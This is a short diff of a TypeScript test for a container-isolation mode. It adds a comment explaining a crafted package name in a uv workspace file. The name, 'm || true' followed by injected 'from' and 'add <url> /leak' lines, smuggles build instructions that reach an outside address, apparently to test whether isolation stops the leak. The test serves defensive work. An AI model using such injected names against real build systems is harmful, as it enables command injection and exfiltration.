@@ -159,6 +159,7 @@ describe.skipIf(missing !== undefined)('SLIPWAY_ISOLATION=container', () => {
     const root = '[project]\nname = "root"\nversion = "1"\n[tool.uv.workspace]\nmembers = ["**"]\n';
     const member = (name: string): string => `[project]\nname = ${JSON.stringify(name)}\nversion = "1"\n`;
     const asked = await askedOfHost(async (url) => {
+      // The name as an attacker writes it: `|| true` lets the line of uv succeed before the lines that are smuggled in.
       const lines = (address: string): string => `m || true\nfrom ${BASE_IMAGE}\nadd ${address} /leak\n#`;
       for (const [folder, name] of [
         ['m', lines(url)],
